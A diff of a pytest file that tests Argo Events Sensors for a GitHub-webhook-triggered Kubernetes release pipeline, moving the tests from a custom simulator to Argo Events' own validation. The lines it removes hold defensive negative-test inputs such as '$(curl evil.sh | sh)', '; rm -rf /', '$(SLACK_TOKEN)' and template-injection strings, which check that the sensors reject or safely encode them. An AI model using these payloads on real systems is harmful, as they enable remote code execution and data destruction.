@@ -1,12 +1,11 @@
 """Tests of components/sensors.py: the Sensor builder, the component under mocks, whole stacks.
 
-The builder is checked for its shape (names, pod, filters, trigger). The built Sensor of
-every service in every stack, and after wiring the rendered one, receives the real GitHub
-payloads of upstream/github-webhooks through tests.checks.sensor_sim (Argo Events' own filter and
-parameter semantics): exactly the merged PR into the environment's branch of the
-service's repository creates one Workflow, with the contract's name, namespace,
-template and arguments; nothing else does. The created Workflow is linted with
-workflow_lint, the Sensor validated against the upstream schema.
+The builder is checked for its shape (names, pod, filters, trigger). Built Sensors the
+render does not contain (a branch with regexp metacharacters, the push trigger in every
+stack) receive real GitHub payloads of upstream/github-webhooks through Argo Events' own
+code (components.upstream_events, via tests/payload_sim.py); argo-events-check validates
+every built Sensor; the created Workflow passes `argo lint --offline` against a template.
+The rendered Sensors' deliveries are tests/test_sensors_upstream.py's.
 """
 
 from __future__ import annotations
@@ -22,11 +21,14 @@ from typing import Any
 import pulumi
 import pulumi_kubernetes as k8s
 import pytest
+import yaml
 
 from components import events, intake, names, sensors
 from components.config import STACKS, Service, Settings, load_services, load_stack_settings
 from tests.conftest import SERVICES_FILE, UPSTREAM
 from tests.harness import run_under_mocks
+from tests.payload_sim import sensor_deliveries
+from tests.upstream_support import argo_lint, beyond_argo_lint, require
 
 PROJECT_DIR = Path(__file__).resolve().parent.parent
 FIXTURES = UPSTREAM / "github-webhooks"
@@ -233,7 +235,13 @@ def test_builder_is_deterministic() -> None:
     assert json.dumps(sensors.sensor_manifest(svc, settings)) == json.dumps(sensors.sensor_manifest(svc, settings))
 
 
-# ------------------------------------------------- deliveries through sensor_sim
+# ------------------------------------- deliveries through Argo Events' own code
+#
+# tests/test_sensors_upstream.py sends the real payloads through the *rendered* Sensors of
+# every stack (components.upstream_events: argo-events v1.9.10's filters and k8s trigger).
+# Here the same engine runs on *built* Sensors, for what the render does not contain: a
+# branch with regexp metacharacters, the push trigger in every stack, text of any content,
+# and the created Workflow linted by `argo lint --offline` against a template.
 
 
 def fixture(name: str) -> dict[str, Any]:
@@ -258,12 +266,13 @@ def push(*, branch: str, repo: str, **changes: Any) -> dict[str, Any]:
     return payload
 
 
-def deliver(sensor: Manifest, svc: Service, payload: dict[str, Any], event: str) -> list[Manifest]:
-    """Workflows the Sensor creates for one delivery to the service's repository event."""
-    from tests.checks.sensor_sim import fire, github_headers
-
-    return fire(sensor, intake.EVENTSOURCE_NAME, intake.event_name(svc.repo), payload,  # type: ignore[no-any-return]
-                github_headers(event), strict=True)
+def deliver(sensor: Manifest, svc: Service, settings: Settings, payload: dict[str, Any],
+            event: str) -> list[Manifest]:
+    """Workflows the built Sensor creates for one delivery to the service's repository event,
+    next to the EventBus and EventSource the program builds for the same settings."""
+    require("argo-events-check")
+    objects = [events.eventbus_manifest(settings), events.eventsource_manifest(settings, [svc.repo]), sensor]
+    return sensor_deliveries(objects, intake.event_name(svc.repo), payload, event)[sensor["metadata"]["name"]]
 
 
 def expected_workflow(svc: Service, settings: Settings, revision: str, arguments: dict[str, str]) -> Manifest:
@@ -292,162 +301,28 @@ def b64(text: str) -> str:
     return "b64:" + base64.b64encode(text.encode()).decode()
 
 
-MERGED = {"sha": "c4295bd74fb0f4fda03689c3df3f2803b658fd85", "title": "Update the README with new information.",
-          "author": "Codertocat"}
-
-
-def stack_cases() -> list[tuple[str, str]]:
-    return [(stack, s.name) for stack in STACKS for s in stack_services(stack)]
-
-
-@pytest.mark.parametrize(("stack", "name"), stack_cases())
-def test_merged_pr_into_the_branch_starts_one_release(stack: str, name: str) -> None:
-    settings = stack_settings(stack)
-    svc = next(s for s in stack_services(stack) if s.name == name)
-    sensor = sensors.sensor_manifest(svc, settings)
-    created = deliver(sensor, svc, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
-    assert [summary(w) for w in created] == [expected_workflow(svc, settings, MERGED["sha"], {
-        "pr-number": "2", "pr-title": b64(MERGED["title"]), "author": b64(MERGED["author"]),
-        "repository": b64(svc.repo), "trigger": "pull_request",
-    })]
-    assert created[0]["kind"] == "Workflow"
-
-
-Change = str | Callable[[str], str] | None
-
-
-def _not_firing_cases() -> list[tuple[str, Callable[[str, str], tuple[dict[str, Any], str]]]]:
-    def pr(name: str = "pull_request.closed-merged.json", **pr_fields: Any) -> Callable[..., Any]:
-        return lambda branch, repo: (pull_request(name, base=branch, repo=repo, **pr_fields), "pull_request")
-
-    def retarget(branch: Change = None, repo: Change = None) -> Callable[..., Any]:
-        def value(change: Change, current: str) -> str:
-            return change(current) if callable(change) else change or current
-
-        return lambda b, r: (pull_request(base=value(branch, b), repo=value(repo, r)), "pull_request")
-
-    def other_event(fixture_name: str, event: str) -> Callable[..., Any]:
-        def make(branch: str, repo: str) -> tuple[dict[str, Any], str]:
-            payload = fixture(fixture_name)
-            payload["repository"]["full_name"] = repo
-            if "pull_request" in payload:
-                payload["pull_request"]["base"]["ref"] = branch
-            return payload, event
-        return make
-
-    def merged_as(event: str) -> Callable[..., Any]:
-        return lambda b, r: (pull_request(base=b, repo=r), event)
-
-    return [
-        ("closed unmerged", pr("pull_request.closed.json")),
-        ("opened", pr("pull_request.opened.json")),
-        ("synchronize", pr("pull_request.synchronize.json")),
-        ("review comment", other_event("pull_request_review_comment.edited.json", "pull_request_review_comment")),
-        ("merged payload under another event header", merged_as("pull_request_review")),
-        ("ping", other_event("ping.json", "ping")),
-        ("push (push trigger off)", lambda b, r: (push(branch=b, repo=r), "push")),
-        ("other branch", retarget(branch="master")),
-        ("branch with a suffix", retarget(branch=lambda b: f"{b}-old")),
-        ("branch with a prefix", retarget(branch=lambda b: f"feature/{b}")),
-        ("branch with a trailing newline", retarget(branch=lambda b: f"{b}\n")),
-        ("branch in another case", retarget(branch=lambda b: b.upper())),
-        ("other repository", retarget(repo="Codertocat/Hello-World")),
-        ("repository with a suffix", retarget(repo=lambda r: f"{r}-fork")),
-        ("repository with a prefix", retarget(repo=lambda r: f"evil/{r}")),
-        ("repository of another owner", retarget(repo=lambda r: "someone-else/" + r.split("/")[1])),
-        ("non-hex merge sha", pr(merge_commit_sha="$(curl evil.sh | sh)")),
-        ("short merge sha", pr(merge_commit_sha="c4295bd")),
-        ("upper-case merge sha", pr(merge_commit_sha="C4295BD74FB0F4FDA03689C3DF3F2803B658FD85")),
-        ("merge sha with a suffix", pr(merge_commit_sha="c4295bd74fb0f4fda03689c3df3f2803b658fd85; rm -rf /")),
-        ("merged is a string", pr(merged="yes")),
-        ("PR number is text", pr(number="$(SLACK_TOKEN)")),
-        ("PR number is negative", pr(number=-2)),
-        ("PR number is a fraction", pr(number=2.5)),
-    ]
-
-
-NOT_FIRING = _not_firing_cases()
-
-
-@pytest.mark.parametrize("stack", STACKS)
-@pytest.mark.parametrize(("case", "make"), NOT_FIRING, ids=[c for c, _ in NOT_FIRING])
-def test_nothing_else_starts_a_release(stack: str, case: str, make: Callable[..., Any]) -> None:
-    settings = stack_settings(stack)
-    for svc in stack_services(stack):
-        payload, event = make(settings.branch, svc.repo)
-        assert deliver(sensors.sensor_manifest(svc, settings), svc, payload, event) == [], (case, svc.name)
-
-
-def test_repository_name_matches_in_any_case_but_literally() -> None:
-    svc, settings = service(repo="Appen/my.repo"), stack_settings()
-    sensor = sensors.sensor_manifest(svc, settings)
-    assert len(deliver(sensor, svc, pull_request(base="development", repo="appen/MY.REPO"), "pull_request")) == 1
-    # "." is literal: a regexp wildcard would let this one through.
-    assert deliver(sensor, svc, pull_request(base="development", repo="Appen/myXrepo"), "pull_request") == []
-
-
 def test_branch_metacharacters_are_literal() -> None:
     svc, settings = service(), with_branch(stack_settings(), "release.1")
     sensor = sensors.sensor_manifest(svc, settings)
-    assert len(deliver(sensor, svc, pull_request(base="release.1", repo=svc.repo), "pull_request")) == 1
-    assert deliver(sensor, svc, pull_request(base="releaseX1", repo=svc.repo), "pull_request") == []
-
-
-def test_a_merge_into_main_starts_only_the_live_release() -> None:
-    svc = service()
-    fired = {
-        stack: len(deliver(sensors.sensor_manifest(svc, stack_settings(stack)), svc,
-                           pull_request(base="main", repo=svc.repo), "pull_request"))
-        for stack in STACKS
-    }
-    assert fired == {"dev": 0, "sandbox": 0, "integration": 0, "live": 1}
-
-
-def test_large_pr_numbers_arrive_as_plain_digits() -> None:
-    svc, settings = service(), stack_settings()
-    sensor = sensors.sensor_manifest(svc, settings)
-    [workflow] = deliver(sensor, svc, pull_request(base="development", repo=svc.repo, number=279147437),
-                         "pull_request")
-    assert summary(workflow)["arguments"]["pr-number"] == "279147437"
-
-
-HOSTILE_TITLE = ("$(SLACK_TOKEN) $(curl evil.sh | sh) `id` \"quoted\" 'single' {{workflow.name}} "
-                 "{{=sprig.b64enc('x')}} {{ .Input.body }}\nsecond line\u202e; rm -rf / #")
-HOSTILE_LOGIN = "x$(id)`whoami`"
-
-
-def test_payload_text_arrives_encoded_in_its_argument_only() -> None:
-    svc, settings = service(), stack_settings()
-    sensor = sensors.sensor_manifest(svc, settings)
-    payload = pull_request(base="development", repo=svc.repo, title=HOSTILE_TITLE)
-    payload["pull_request"]["user"]["login"] = HOSTILE_LOGIN
-    [workflow] = deliver(sensor, svc, payload, "pull_request")
-    arguments = summary(workflow)["arguments"]
-    # Byte-exact after decoding; the template engine ran over none of it.
-    assert arguments["pr-title"] == b64(HOSTILE_TITLE)
-    assert arguments["author"] == b64(HOSTILE_LOGIN)
-    for value in arguments.values():
-        assert not set(value) & set("$(){}`\n\u202e"), value
-    assert workflow["metadata"]["name"] == names.workflow_name(svc.name, "dev", MERGED["sha"])
-    # Nowhere else in the created object: remove the two arguments, then look for any part.
-    rest = copy.deepcopy(workflow)
-    rest["spec"]["arguments"]["parameters"] = [p for p in rest["spec"]["arguments"]["parameters"]
-                                               if p["name"] not in {"pr-title", "author"}]
-    text = json.dumps(rest)
-    for fragment in ("curl", "evil", "rm -rf", "second line", "whoami", "$(id)", "{{"):
-        assert fragment not in text
+    assert len(deliver(sensor, svc, settings, pull_request(base="release.1", repo=svc.repo), "pull_request")) == 1
+    # "." is literal: a regexp wildcard would let this one through.
+    assert deliver(sensor, svc, settings, pull_request(base="releaseX1", repo=svc.repo), "pull_request") == []
+    pushing = sensors.sensor_manifest(service(trigger_on_push=True), settings)
+    assert len(deliver(pushing, svc, settings, push(branch="release.1", repo=svc.repo), "push")) == 1
+    assert deliver(pushing, svc, settings, push(branch="releaseX1", repo=svc.repo), "push") == []
 
 
 @pytest.mark.parametrize("text", ["", "é ✓ 漢字", "{{ .Input.body.pull_request.title }}", "x" * 300])
 def test_encoded_text_survives_any_content(text: str) -> None:
     """Empty text still renders (upstream refuses an empty template result), Unicode is UTF-8."""
-    svc = service(trigger_on_push=True)
-    sensor = sensors.sensor_manifest(svc, stack_settings())
-    [workflow] = deliver(sensor, svc, pull_request(base="development", repo=svc.repo, title=text), "pull_request")
+    svc, settings = service(trigger_on_push=True), stack_settings()
+    sensor = sensors.sensor_manifest(svc, settings)
+    [workflow] = deliver(sensor, svc, settings, pull_request(base="development", repo=svc.repo, title=text),
+                         "pull_request")
     assert summary(workflow)["arguments"]["pr-title"] == b64(text)
     pushed = push(branch="development", repo=svc.repo)
     pushed["pusher"]["name"] = text
-    [workflow] = deliver(sensor, svc, pushed, "push")
+    [workflow] = deliver(sensor, svc, settings, pushed, "push")
     assert summary(workflow)["arguments"]["author"] == b64(text)
 
 
@@ -456,60 +331,22 @@ def test_push_starts_a_release_only_when_enabled(stack: str) -> None:
     settings = stack_settings(stack)
     svc = service(trigger_on_push=True)
     sensor = sensors.sensor_manifest(svc, settings)
-    after = fixture("push.branch.json")["after"]
-    created = deliver(sensor, svc, push(branch=settings.branch, repo=svc.repo), "push")
-    assert [summary(w) for w in created] == [expected_workflow(svc, settings, after, {
-        "pr-number": "", "pr-title": "", "author": b64("Codertocat"), "repository": b64(svc.repo),
+    body = push(branch=settings.branch, repo=svc.repo)
+    created = deliver(sensor, svc, settings, body, "push")
+    assert [summary(w) for w in created] == [expected_workflow(svc, settings, body["after"], {
+        "pr-number": "", "pr-title": "", "author": b64(body["pusher"]["name"]), "repository": b64(svc.repo),
         "trigger": "push",
     })]
     # A merged PR still fires, with its own values (no constant of the push leaks in).
-    [merged] = deliver(sensor, svc, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
+    [merged] = deliver(sensor, svc, settings, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
     assert summary(merged)["arguments"]["trigger"] == "pull_request"
     # Off: the same push does nothing.
-    assert deliver(sensors.sensor_manifest(service(), settings), svc,
-                   push(branch=settings.branch, repo=svc.repo), "push") == []
-
-
-PUSH_NOT_FIRING: list[tuple[str, Callable[[], dict[str, Any]]]] = [
-    ("other branch", lambda: push(branch="master", repo=service().repo)),
-    ("branch with a suffix", lambda: push(branch="development-old", repo=service().repo)),
-    ("branch with a prefix", lambda: push(branch="feature/development", repo=service().repo)),
-    ("tag", lambda: push(branch="development", repo=service().repo, ref="refs/tags/development")),
-    ("other repository", lambda: push(branch="development", repo="Appen/sid_verification_backend_api-fork")),
-    ("branch deleted", lambda: push(branch="development", repo=service().repo, deleted=True, after="0" * 40)),
-    ("non-hex after", lambda: push(branch="development", repo=service().repo, after="$(reboot)")),
-]
-
-
-@pytest.mark.parametrize(("case", "payload"), PUSH_NOT_FIRING, ids=[c for c, _ in PUSH_NOT_FIRING])
-def test_push_filters_are_exact(case: str, payload: Callable[[], dict[str, Any]]) -> None:
-    svc = service(trigger_on_push=True)
-    assert deliver(sensors.sensor_manifest(svc, stack_settings()), svc, payload(), "push") == [], case
-
-
-def test_tag_deletion_fixture_does_not_start_a_release() -> None:
-    svc = service(trigger_on_push=True)
-    payload = fixture("push.tag.json")
-    payload["repository"]["full_name"] = svc.repo
-    assert deliver(sensors.sensor_manifest(svc, stack_settings()), svc, payload, "push") == []
-
-
-def test_a_merge_seen_as_pr_and_as_push_names_one_workflow() -> None:
-    """Both deliveries create the same name: the second create is AlreadyExists, one build."""
-    from tests.checks.sensor_sim import SensorSimulator, github_headers
-
-    svc = service(trigger_on_push=True)
-    sensor = sensors.sensor_manifest(svc, stack_settings())
-    simulator = SensorSimulator(sensor)
-    event = intake.event_name(svc.repo)
-    sha = MERGED["sha"]
-    first = simulator.send(intake.EVENTSOURCE_NAME, event, push(branch="development", repo=svc.repo, after=sha),
-                           github_headers("push"))
-    second = simulator.send(intake.EVENTSOURCE_NAME, event, pull_request(base="development", repo=svc.repo),
-                            github_headers("pull_request"))
-    created = first.objects + second.objects
-    assert len(created) == 2  # the simulator does not model the API server's AlreadyExists
-    assert {w["metadata"]["name"] for w in created} == {names.workflow_name(svc.name, "dev", sha)}
+    assert deliver(sensors.sensor_manifest(service(), settings), svc, settings, body, "push") == []
+    # Only this stack's branch, and only as a whole name.
+    for other in (s for s in STACKS if stack_settings(s).branch != settings.branch):
+        assert deliver(sensor, svc, settings, push(branch=stack_settings(other).branch, repo=svc.repo), "push") == []
+    for branch in (f"feature/{settings.branch}", f"{settings.branch}/x", f"refs/heads/{settings.branch}"):
+        assert deliver(sensor, svc, settings, push(branch=branch, repo=svc.repo), "push") == [], branch
 
 
 def _sensor_variants() -> list[tuple[str, Service]]:
@@ -521,20 +358,22 @@ def _sensor_variants() -> list[tuple[str, Service]]:
     ]
 
 
-def test_lint_sensor_has_no_warnings() -> None:
-    from tests.checks.sensor_sim import lint_sensor, validate_sensor
+def test_built_sensors_pass_argo_events_validation(tmp_path: Path) -> None:
+    """argo-events' own validation (the controller's ValidateSensor and the Sensor pod's checks)
+    on every built Sensor, with the EventBus and EventSource built for the same settings."""
+    from components import upstream_events
 
-    for stack, svc in _sensor_variants():
-        sensor = sensors.sensor_manifest(svc, stack_settings(stack))
-        validate_sensor(sensor)
-        assert lint_sensor(sensor, "github") == [], (stack, svc.name)
-
-
-def test_sensors_validate_against_the_upstream_schema() -> None:
-    from tests.checks.validate_manifests import validate_objects
-
-    built = [sensors.sensor_manifest(svc, stack_settings(stack)) for stack, svc in _sensor_variants()]
-    assert [p for p in validate_objects(built) if p.severity != "skipped"] == []
+    require("argo-events-check")
+    for index, (stack, svc) in enumerate(_sensor_variants()):
+        settings = stack_settings(stack)
+        objects = [events.eventbus_manifest(settings), events.eventsource_manifest(settings, [svc.repo]),
+                   sensors.sensor_manifest(svc, settings)]
+        path = tmp_path / f"{index}.yaml"
+        path.write_text(yaml.safe_dump_all(objects), encoding="utf-8")
+        report = upstream_events.validate(path)
+        assert report["findings"] == [], (stack, svc.name, report["findings"])
+        assert {"kind": "Sensor", "namespace": settings.namespaces.events, "name": svc.name} in [
+            {k: ref.get(k) for k in ("kind", "namespace", "name")} for ref in report["checked"]]
 
 
 def minimal_release_template(svc: Service, settings: Settings) -> Manifest:
@@ -553,13 +392,19 @@ def minimal_release_template(svc: Service, settings: Settings) -> Manifest:
 
 @pytest.mark.parametrize("event", ["pull_request", "push"])
 def test_created_workflow_lints_against_the_contract_template(event: str) -> None:
-    from tests.checks.workflow_lint import lint
-
     svc, settings = service(trigger_on_push=True), stack_settings()
     payload = (pull_request(base="development", repo=svc.repo) if event == "pull_request"
                else push(branch="development", repo=svc.repo))
-    [workflow] = deliver(sensors.sensor_manifest(svc, settings), svc, payload, event)
-    assert lint(workflow, [minimal_release_template(svc, settings)]) == []
+    [workflow] = deliver(sensors.sensor_manifest(svc, settings), svc, settings, payload, event)
+    template = minimal_release_template(svc, settings)
+    done = argo_lint([template, workflow])
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert beyond_argo_lint(workflow, [template]) == []  # no argument the template does not declare
+    # The lint can fail: the same Workflow against a template of another name does.
+    renamed = copy.deepcopy(template)
+    renamed["metadata"]["name"] += "-other"
+    done = argo_lint([renamed, workflow])
+    assert done.returncode != 0 and names.release_template_name(svc.name) in done.stdout + done.stderr
 
 
 # ------------------------------------------------------------ component (mocks)
@@ -640,32 +485,24 @@ def test_stack_has_one_sensor_per_service_as_built(render_stack: Callable[..., A
 
 
 @pytest.mark.parametrize("stack", STACKS)
-def test_rendered_sensors_start_exactly_their_release(render_stack: Callable[..., Any], stack: str) -> None:
-    from tests.checks.validate_manifests import validate_objects
-    from tests.checks.workflow_lint import lint
-
+def test_rendered_sensors_create_workflows_that_lint_against_the_rendered_templates(
+        render_stack: Callable[..., Any], stack: str) -> None:
+    """What each rendered Sensor creates from a merged PR, with the stack's real release
+    WorkflowTemplates, passes `argo lint --offline`. (tests/test_sensors_upstream.py checks
+    which Sensor fires and what it creates; components/verify lints the templates themselves.)"""
     settings = stack_settings(stack)
     _, manifests = render_stack(stack)
-    _, found = rendered_sensors(render_stack, stack)
-    assert [p for p in validate_objects(list(found.values())) if p.severity != "skipped"] == []
     templates = [m for m in manifests if m["kind"] == "WorkflowTemplate"]
+    require("argo-events-check")
+    created: list[Manifest] = []
     for svc in stack_services(stack):
-        sensor = found[svc.name]
-        [workflow] = deliver(sensor, svc, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
-        assert summary(workflow)["name"] == names.workflow_name(svc.name, stack, MERGED["sha"])
-        # Against the real, rendered release WorkflowTemplate of this service.
-        real = [t for t in templates if t["metadata"]["name"] == names.release_template_name(svc.name)]
-        assert len(real) == 1
-        assert lint(real[0]) == []
-        assert lint(workflow, real) == []
-        for case, make in NOT_FIRING:
-            payload, event = make(settings.branch, svc.repo)
-            assert deliver(sensor, svc, payload, event) == [], case
-        # Every other environment's branch: no release here.
-        for other in STACKS:
-            if other != stack:
-                payload = pull_request(base=stack_settings(other).branch, repo=svc.repo)
-                assert deliver(sensor, svc, payload, "pull_request") == [], other
+        body = pull_request(base=settings.branch, repo=svc.repo)
+        created += sensor_deliveries(manifests, intake.event_name(svc.repo), body, "pull_request")[svc.name]
+    assert len(created) == len(stack_services(stack))
+    done = argo_lint([*templates, *created])
+    assert done.returncode == 0, done.stdout + done.stderr
+    for workflow in created:
+        assert beyond_argo_lint(workflow, templates) == [], workflow["metadata"]["name"]
 
 
 def test_no_string_filter_in_the_module_is_unanchored() -> None:
